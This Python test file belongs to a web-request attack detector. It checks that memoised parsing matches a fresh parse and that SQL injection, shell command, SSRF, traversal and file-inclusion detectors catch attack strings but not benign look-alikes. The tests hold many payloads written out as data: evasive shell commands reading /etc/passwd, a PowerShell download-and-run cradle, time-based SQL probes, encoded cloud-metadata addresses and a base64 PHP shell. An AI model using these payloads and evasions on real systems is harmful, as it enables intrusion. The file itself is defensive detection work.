"""Round 3: memoised points give the same result as a fresh parse; new detector structure with benign near-misses."""
from __future__ import annotations

import random

import pytest

from sensor.detect import THRESHOLD, Engine, protocol, rce, sqli, ssrf
from sensor.detect.rawrequest import RawRequest
from sensor.points import Limits, PointMemo, extract_all
from sensor.points.decoders import percent_decode
from tests.detect.conftest import req


def flagged(f) -> bool:
    return f is not None and f.score >= THRESHOLD


def as_pairs(ex) -> list[tuple[tuple, str]]:
    return [(tuple(p.path), p.value) for p in ex.points]


# --- points memo: a replay is indistinguishable from parsing again
REQUESTS = [
    req("/a/b%2Fc;x=1/..%c0%af/etc?q=1&q=%27or%201=1&x&%3Cs%3E=v", headers=[
        ("User-Agent", "Mozilla/5.0"), ("Accept", "text/html"), ("Cookie", "sid=abc; t=%22x%22; odd$name=1"),
        ("X-Data", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig"), ("Referer", "https://shop.example/?a=%26lt%3B")]),
    req("/p", "POST", headers=[("Content-Type", "application/x-www-form-urlencoded")],
        body=b"a=1&b=%3Cscript%3E&c=W3sidiI6IjEifV0%3D"),
    req("/get?json=%7B%22a%22%3A%5B1%2C%22x%27%22%5D%7D&page=1", headers=[("Accept", "text/html")]),
]


@pytest.mark.parametrize("r", REQUESTS)
def test_memoised_points_equal_a_fresh_parse(r):
    memo = PointMemo()
    fresh = as_pairs(extract_all(r))
    first = extract_all(r, memo=memo)
    again = extract_all(r, memo=memo)  # every piece now comes from the memo
    assert len(memo) > 0
    assert as_pairs(first) == fresh and as_pairs(again) == fresh
    assert first.overlimits == again.overlimits == []


def test_memo_replay_respects_limits_exactly():
    r = req("/x?" + "&".join(f"k{i}=v%20{i}" for i in range(40)))
    small = Limits(max_params=10)
    memo = PointMemo()
    extract_all(r, memo=memo)                  # memo filled under the default limits
    got = extract_all(r, small, memo=memo)     # other limits: the memo must not leak points past them
    want = extract_all(r, small)
    assert as_pairs(got) == as_pairs(want) and got.overlimits == want.overlimits == ["params"]
    assert len(got.points) == 10


def test_memo_does_not_keep_pieces_that_hit_a_limit():
    long_value = "a%20" * 40
    r = req("/x?v=" + long_value)
    lim = Limits(max_value=20)
    memo = PointMemo()
    a = extract_all(r, lim, memo=memo)
    b = extract_all(r, lim, memo=memo)
    assert a.overlimits == b.overlimits == ["value_size"]  # reported on every request, not only the first
    assert as_pairs(a) == as_pairs(b)


def test_memo_is_bounded():
    memo = PointMemo(max_entries=8)
    for i in range(50):
        extract_all(req(f"/x?a={i}%20"), memo=memo)
    assert len(memo) <= 8


def test_engine_results_do_not_depend_on_the_memo():
    a, b = Engine(), Engine()
    b._pmemo = None  # noqa: SLF001 - the engine without memo is the reference
    rows = REQUESTS + [req("/get?x=;cat%20/etc/passwd"), req("/get?x=;cat%20/etc/passwd")]
    for r in rows:
        ha = sorted((h.type, h.rule, tuple(h.point)) for h in a.inspect(r))
        hb = sorted((h.type, h.rule, tuple(h.point)) for h in b.inspect(r))
        assert ha == hb


def test_percent_decode_fast_paths_match_the_general_decoder():
    rng = random.Random(7)
    alphabet = "%%%+aZ09fFgG%uU\u00e9/ "
    for _ in range(3000):
        v = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 10)))
        for plus in (False, True):
            data = v.encode("utf-8")
            # bytes input takes the general path; str input the fast ones: both must agree
            assert percent_decode(v, plus) == percent_decode(data, plus), (v, plus)
    assert percent_decode("a%20b+c", plus=True) == "a b c"
    assert percent_decode("%u0041%41%zz") == "AA%zz"
    assert percent_decode("%c0%af") == "/"


# --- protocol: the joined header checks report what the per-header checks did
@pytest.mark.parametrize("headers,rules", [
    ([("Host", "a"), ("Accept", "*/*")], set()),
    ([("", "x"), ("Host", "a")], {"protocol:bad_header_name"}),
    ([("Host", "a"), ("X-A", "v\x00")], {"protocol:bad_header_value"}),
    ([("Host", "a"), ("host", "b")], {"protocol:duplicate_host"}),
    ([("Host", "a"), ("Content-Length", "3"), ("Transfer-Encoding", "chunked")], {"protocol:cl_te"}),
    ([("Host", "a"), ("Bad Name", "v")], {"protocol:bad_header_name"}),
    ([], {"protocol:missing_host"}),
])
def test_protocol_header_checks(headers, rules):
    r = RawRequest(method="GET", target="/", version="1.1", host="a", headers=headers, body=b"")
    assert {h.rule for h in protocol.check(r)} == rules


# --- shell: alias/rc vocabulary, newline-terminated single commands
@pytest.mark.parametrize("v", ["'ll' /var/www/", "ll /etc/", "l''l /var/log", "rc -c 'id'", "shutdown\n", "reboot\r\n",
                               "whoami\n"])
def test_shell_commands_are_caught(v):
    assert flagged(rce.analyze(v)), (v, rce.analyze(v))


@pytest.mark.parametrize("v", ["we'll /var", "I'll be there", "the rc file", "rc1 release notes", "time\n", "date\n",
                               "shutdown of the plant\n", "Shutdown", "reboot the router first\n", "Init\n", "init\n"])
def test_shell_words_in_text_stay_clean(v):
    assert not flagged(rce.analyze(v)), (v, rce.analyze(v))


# --- SQL: a value that starts by escaping the quote it breaks out of
@pytest.mark.parametrize("v", ["\\'and", "\\' and", "\\\"or", "\\'or 1", "\\'and 1=1-- "])
def test_escaped_quote_breakout_is_caught(v):
    assert flagged(sqli.analyze(v)), (v, sqli.analyze(v))


@pytest.mark.parametrize("v", ["it\\'s and more", "O\\'Neil and Smith", "don\\'t and won\\'t", "\\'s and", "and"])
def test_escaped_quotes_in_text_stay_clean(v):
    assert not flagged(sqli.analyze(v)), (v, sqli.analyze(v))


# --- SSRF: backslash-escaped host names
@pytest.mark.parametrize("v", ["http://\\g\\o\\o\\g\\l\\e.\\c\\o\\m/", "https://\\e\\v\\i\\l.example/x"])
def test_escaped_url_host_is_caught(v):
    assert flagged(ssrf.analyze(v)), (v, ssrf.analyze(v))


@pytest.mark.parametrize("v", ["http://example.com/a\\b\\c", "https://g\\oogle.com", "C:\\Users\\me", "https://example.com/?q=\\a\\b"])
def test_backslashes_outside_the_host_stay_clean(v):
    assert not flagged(ssrf.analyze(v)), (v, ssrf.analyze(v))


# --- SQL: comments are blanks (before a call's `(`, between words of a whole-value probe, trailing)
@pytest.mark.parametrize("v", ["1=1-- -", "<=>#", "IS/**/NULL", "in/**/(0,1)", "ordeR/**/by", "'msdasql'-- -",
                               "4294967296#", "select/**/sleep/**/(10)", "1 and sleep/**/(5)", "char/**/(65)",
                               "if/**/(1=1,sleep(1),0)", "OPENROWSET/* x */"])
def test_sql_comment_evasions_are_caught(v):
    assert flagged(sqli.analyze(v)), (v, sqli.analyze(v))


@pytest.mark.parametrize("v", ["item #5", "color: #fff", "see the chart /* note */ (page 2)", "5 -- 6 people",
                               "wait -- what?", "count /* all */ the sheep", "C# is a language", "a/**/b"])
def test_comments_in_text_stay_clean(v):
    assert not flagged(sqli.analyze(v)), (v, sqli.analyze(v))


# --- shell: quoting the shell removes before running (`c\at`, `c''at`), `$IFS$9` as a blank everywhere
@pytest.mark.parametrize("v", ["c\\at /e\\tc/passwd", "l\\s f\\oo bar", "t\\ime c\\url example.org", "w''hoami;",
                               "a\\lias a=b", "alias$IFS$9a=b", "{,e\\cho,#t\\est}", "s\\hutdown\n"])
def test_shell_quoting_evasions_are_caught(v):
    assert flagged(rce.analyze(v)), (v, rce.analyze(v))


@pytest.mark.parametrize("v", ["C:\\Users\\me\\Documents", "path\\to\\file.txt", "\\alpha + \\beta = \\gamma",
                               "say \"\" to nobody", "it''s fine", "a\\b", "line one\\nline two"])
def test_backslashes_and_empty_quotes_in_text_stay_clean(v):
    assert not flagged(rce.analyze(v)), (v, rce.analyze(v))


@pytest.mark.parametrize("v,kind", [("l\\s f\\oo bar", "rce"), ("t\\ime c\\url example.org", "rce"),
                                    ("IS/**/NULL", "sqli"), ("1=1-- -", "sqli"), ("\\'and", "sqli"),
                                    ("http://\\g\\o\\o\\g\\l\\e.\\c\\o\\m/", "ssrf"), ("shutdown\n", "rce")])
def test_engine_prefilter_lets_the_new_shapes_through(engine, v, kind):
    from urllib.parse import quote
    hits = engine.inspect(req("/search?q=" + quote(v, safe="")))
    assert kind in {h.type for h in hits if h.score >= THRESHOLD}, (v, hits)


# --- base64: short values and all-letter encodings are decoded; ids, tokens and words are not
@pytest.mark.parametrize("text", ["' or abc!", "or 88", "1!=11", "xor 99>", "$(cmd)", ";who", "alert()"])
def test_short_base64_payloads_are_decoded_and_caught(engine, text):
    import base64
    from urllib.parse import quote
    enc = base64.b64encode(text.encode()).decode()
    ex = extract_all(req("/s?q=" + quote(enc, safe="")))
    assert text in {p.value for p in ex.points if p.path[-1:] == ["base64"]}
    hits = engine.inspect(req("/s?q=" + quote(enc, safe="")))
    assert any(h.score >= THRESHOLD and h.point[-1] == "base64" for h in hits), (text, enc, hits)


def test_short_tokens_and_words_are_not_decoded():
    from sensor.points.decoders import base64_text
    assert base64_text("Password") is None and base64_text("ADMINISTRATOR") is None and base64_text("abcdefgh") is None
    assert base64_text("12345678") is None and base64_text("Qm9i") is None  # 4 chars: below the floor
    assert base64_text("Qm9iYnlz") is None  # "Bobbys": letters only, no blank or punctuation: nothing to inspect
    rng = random.Random(11)
    alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    decoded = sum(base64_text("".join(rng.choice(alnum) for _ in range(rng.randint(8, 11)))) is not None
                  for _ in range(20000))
    assert decoded < 100  # random ids decode to printable ASCII text with a blank or punctuation ~0.3 % of the time


def test_random_short_tokens_raise_no_hits(engine):
    rng = random.Random(5)
    alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    for _ in range(3000):
        tok = "".join(rng.choice(alnum) for _ in range(rng.randint(8, 16)))
        from urllib.parse import quote
        hits = engine.inspect(req("/s?sid=" + quote(tok, safe="")))
        assert not any(h.score >= THRESHOLD for h in hits), (tok, hits)


# --- benign structures that used to be flagged, each beside the attack shape that must still be caught
@pytest.mark.parametrize("v", ["12/25", "3/4 cup", "2024/06/report", "1295/aE8dG2Ks", "1.5/2"])
def test_numbers_before_a_slash_are_not_addresses(v):
    assert not flagged(ssrf.analyze(v)), (v, ssrf.analyze(v))


@pytest.mark.parametrize("v", ["2130706433/admin", "0x7f000001/", "017700000001/", "127.1/admin", "0xA9FEA9FE/latest",
                               "http://0x41414141/", "http://2130706433/"])
def test_encoded_addresses_are_still_caught(v):
    assert flagged(ssrf.analyze(v)), (v, ssrf.analyze(v))


@pytest.mark.parametrize("v", ["http://0x41414141A9FEA9FE/latest/meta-data/", "http://0x00000000A9FEA9FE/",
                               "https://0xdeadbeef7f000001:8443/admin"])
def test_hex_hosts_wider_than_32_bits_are_read_as_their_low_32_bits(v):
    # some URL parsers keep the low 32 bits of an over-long hex host: 169.254.169.254 and 127.0.0.1 here
    assert flagged(ssrf.analyze(v)) and ssrf.analyze(v).rule in ("ssrf:loopback_ip", "ssrf:encoded_ip"), ssrf.analyze(v)


@pytest.mark.parametrize("v", ["0x41414141A9FEA9FE", "build 0x41414141A9FEA9FE failed", "http://0x1234567890abcdef.example.com/"])
def test_long_hex_numbers_outside_a_url_host_are_not_addresses(v):
    assert not flagged(ssrf.analyze(v)), (v, ssrf.analyze(v))


@pytest.mark.parametrize("v", ["...", "wait....", "hmm.... ok", "Loading...", "../images/logo.png", "../css/site.min.css"])
def test_ellipses_and_asset_links_are_not_traversal(v):
    from sensor.detect import ptrav
    assert not flagged(ptrav.analyze(v)), (v, ptrav.analyze(v))


@pytest.mark.parametrize("v", ["fda.phtml......", "aaa....{file}", "....//....//etc", "../", "../1.7z", "../.history",
                               "../../images/logo.png", "../etc/passwd.png", ".../"])
def test_dot_runs_and_traversal_are_still_caught(v):
    from sensor.detect import ptrav
    assert flagged(ptrav.analyze(v)), (v, ptrav.analyze(v))


@pytest.mark.parametrize("v", ["${price}", "Total: ${total}", "!!!", "Great!!!", "yes; no; maybe", "powershell basics",
                               "passwd command", "cmd.exe tips", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"])
def test_templates_exclamations_lists_and_titles_stay_clean(v):
    assert not flagged(rce.analyze(v)), (v, rce.analyze(v))


@pytest.mark.parametrize("v", ["${PATH:0:1}", "${SHELL} -c \"echo hi\"", "$EDITOR -x", "!!", "!-1!-2", "id;", "id; ls",
                               "ansible-config dump", "cscli alerts list", "ls foo bar", "whoami\n",
                               "data:text/plain;base64,;id"])
def test_shell_shapes_beside_them_are_still_caught(v):
    assert flagged(rce.analyze(v)), (v, rce.analyze(v))


def test_image_data_uri_is_reported_not_blocked_unless_its_bytes_are_code():
    from sensor.detect import rfi
    png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"
    php = "data:image/png;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="  # <?php system('id'); ?> labelled as a PNG
    assert rfi.analyze(png).score < THRESHOLD
    assert rfi.analyze(php).score >= THRESHOLD
    assert rfi.analyze("data:text/plain;base64,SSBsb3ZlIFBIUAo=").score >= THRESHOLD


@pytest.mark.parametrize("v", ["max(a, b)", "count(*)", "sin(x)/cos(x)", "SUM(A1:A10)", "order by phone"])
def test_formulas_and_phrases_are_not_sql(v):
    assert not flagged(sqli.analyze(v)), (v, sqli.analyze(v))


@pytest.mark.parametrize("v", ["1 and max(1,2)", "max(1,2)-- ", "ascii(substring(version(),1,1))", "sleep(5)", "pow(",
                               "order by 3", "1 order by 3--", "count(*) from users"])
def test_sql_around_the_same_functions_is_caught(v):
    assert flagged(sqli.analyze(v)), (v, sqli.analyze(v))


@pytest.mark.parametrize("v", ["u4426cfF/IEX", "/ps+dwCBc+", "ab/ls+xyz==", "/id+ok"])
def test_base64_looking_tokens_with_command_names_stay_clean(v):
    assert not flagged(rce.analyze(v)), (v, rce.analyze(v))


@pytest.mark.parametrize("v", ["IEX (New-Object Net.WebClient).DownloadString('http://x')", "whoami | iex", "iex $a",
                               "/bin/ps aux", ";/usr/bin/id", "echo \"test\"{/php}", "{php}system('id');{/php}"])
def test_their_attack_counterparts_are_caught(engine, v):
    from urllib.parse import quote
    hits = engine.inspect(req("/s?q=" + quote(v, safe="")))
    assert "rce" in {h.type for h in hits if h.score >= THRESHOLD}, (v, hits)


def test_graphql_documents_in_json_stay_clean(engine):
    import json
    doc = 'query { user(id: "42") { name email orders(first: 10) { edges { node { id total } } } } }'
    body = json.dumps({"query": doc, "variables": {"id": "42"}}).encode()
    hits = engine.inspect(req("/graphql", "POST", [("Content-Type", "application/json")], body))
    assert not any(h.score >= THRESHOLD for h in hits), hits


@pytest.mark.parametrize("v", ["{ id; }", "a && { cat /etc/passwd; }", "${cmd}", "${HOME}", "test{${sleep(12)}}",
                               "${IFS}"])
def test_shell_groups_and_shell_named_expansions_are_caught(engine, v):
    from urllib.parse import quote
    hits = engine.inspect(req("/s?q=" + quote(v, safe="")))
    assert "rce" in {h.type for h in hits if h.score >= THRESHOLD}, (v, hits)


@pytest.mark.parametrize("v", ["x{id}", "{ id name }", "${user.name}", "Total: ${total}", "{id"])
def test_braces_and_placeholders_stay_clean(v):
    assert not flagged(rce.analyze(v)), (v, rce.analyze(v))


def test_numeric_entities_with_many_leading_zeros_are_decoded():
    from sensor.points.decoders import html_decode
    assert html_decode("&#x24;&#00000000000000000000000000000123;jndi:x}") == "${jndi:x}"
    assert html_decode("&#x000000041;&#65") == "AA"


@pytest.mark.parametrize("v", [";sleep 5", "|sleep 10s", ";ping 3", "& dir c:\\", "& type c:\\windows\\win.ini"])
def test_timing_probes_and_windows_drive_arguments_are_caught(v):
    assert flagged(rce.analyze(v)), (v, rce.analyze(v))


@pytest.mark.parametrize("v", ["; see 5", "see c: drive", "sleep 5 hours", "Chapter 5; sleep well"])
def test_numbers_and_drive_letters_in_text_stay_clean(v):
    assert not flagged(rce.analyze(v)), (v, rce.analyze(v))


def test_url_path_naming_a_program_is_not_a_command_line(engine):
    from urllib.parse import quote
    for seg in ("powershell basics", "passwd command", "nmap tutorial"):
        hits = engine.inspect(req("/docs/" + quote(seg, safe="")))
        assert not any(h.score >= THRESHOLD for h in hits), (seg, hits)
    for bad in ("/cgi-bin/x;id", "/a/$(id)/b", "/x%0aid"):
        hits = engine.inspect(req(bad))
        assert "rce" in {h.type for h in hits if h.score >= THRESHOLD}, (bad, hits)


@pytest.mark.parametrize("v,want", [("/etc/hosts file format", False), ("/etc/hosts", True), ("/etc/passwd x", True),
                                    ("../../etc/hosts is where", True), ("cat /etc/hosts", True)])
def test_sensitive_path_named_in_a_sentence(v, want):
    from sensor.detect import ptrav
    assert flagged(ptrav.analyze(v)) == want, (v, ptrav.analyze(v))


def test_tool_names_are_fingerprints_in_user_agents_not_in_paths(engine):
    assert not any(h.type == "scanner" for h in engine.inspect(req("/docs/nmap-tutorial/hydra-config")))
    assert any(h.type == "scanner" and h.score >= THRESHOLD
               for h in engine.inspect(req("/", headers=[("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)")])))
    assert any(h.type == "scanner" for h in engine.inspect(req("/nessus_is_probing_you")))


# --- bounded work: pathological 60 kB values cost milliseconds, not seconds (CPU time, so load does not matter)
_N = 60000


@pytest.mark.parametrize("v", ["x {" + " a;" * (_N // 3), "http://" + "\\a" * (_N // 2), "(" + "a" * _N + "...",
                               "<a " * (_N // 3), "</script" * (_N // 8), "'" * _N, "/*" * (_N // 2), "-" * _N,
                               " a..." * (_N // 5), "\\a" * (_N // 2), "${a}" * (_N // 4), "../a." * (_N // 5) + "png",
                               "data:image/png" + ";a=b" * (_N // 4), "' or 1=1 " * (_N // 9)])
def test_pathological_values_are_analysed_in_bounded_time(engine, v):
    import time
    from sensor.points import Point
    t0 = time.thread_time()
    engine._point_hits(Point(["get", "q"], v), "shop.example")  # noqa: SLF001 - one value, no request around it
    assert time.thread_time() - t0 < 1.5


@pytest.mark.parametrize("analyse,value", [
    ("sqli", "/*on" * 5000),             # every unclosed `/*` used to rescan to the end: 1.0 s
    ("sqli", "x/*y*/" * 3000 + "/*"),
    ("ptrav", "..;" * 6666),             # every `..;` used to look for a slash to the end: 0.6 s
    ("ptrav", "=..;" * 5000),
])
def test_comment_and_dot_runs_are_scanned_once(analyse, value):
    import importlib
    import time
    mod = importlib.import_module(f"sensor.detect.{analyse}")
    t0 = time.process_time()
    mod.analyze(value)
    assert time.process_time() - t0 < 0.25
